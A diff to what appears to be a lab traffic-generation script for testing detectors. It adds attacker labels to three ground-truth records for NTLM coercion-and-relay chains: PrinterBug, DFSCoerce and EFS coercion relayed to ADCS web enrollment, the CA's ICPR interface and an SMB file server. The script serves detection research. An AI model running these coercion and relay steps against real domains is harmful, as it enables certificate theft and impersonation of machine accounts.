@@ -222,7 +222,7 @@ scenario_chain_four_hosts_adcs() {
   RELAY_HOST=drop relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
   efs_call "\\\\$DROP\\share\\file.txt"
   sleep 4
-  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP target=$CA family=chain "${COERCED_SMB[@]}" \
+  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$CA family=chain "${COERCED_SMB[@]}" \
     expect=relay:smb-http expect=adcs-enrollment expect=chain "$IMPACKET_TOOLS" \
     notes="The caller is not the listener, and the listener is not the target: the certificate is issued to the victim's account."
 }
@@ -233,7 +233,7 @@ scenario_chain_four_hosts_icpr() {
   RELAY_HOST=drop relay_on smb -t "rpc://$CA" -rpc-mode ICPR -icpr-ca-name 'lab-CA'
   call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$DROP" --level 2
   sleep 5
-  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP target=$CA family=chain expect=coercion:rprn \
+  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$CA family=chain expect=coercion:rprn \
     expect=callback:smb expect=relay:smb-rpc expect=icpr-enrollment expect=chain "$IMPACKET_TOOLS" \
     notes="PrinterBug, and the certificate authority's RPC interface at level CONNECT."
 }
@@ -244,7 +244,7 @@ scenario_chain_four_hosts_smb() {
   RELAY_HOST=drop relay_on smb -t "smb://$FILES"
   call "ncacn_np:$SRV[\\pipe\\netdfs]" NetrDfsRemoveStdRoot "$DROP"
   sleep 4
-  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP target=$FILES family=chain expect=coercion:dfsnm \
+  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$FILES family=chain expect=coercion:dfsnm \
     expect=callback:smb expect=relay:smb-smb expect=chain "$IMPACKET_TOOLS" \
     notes="DFSCoerce, and a file server on which the machine account then tries the service manager."
 }
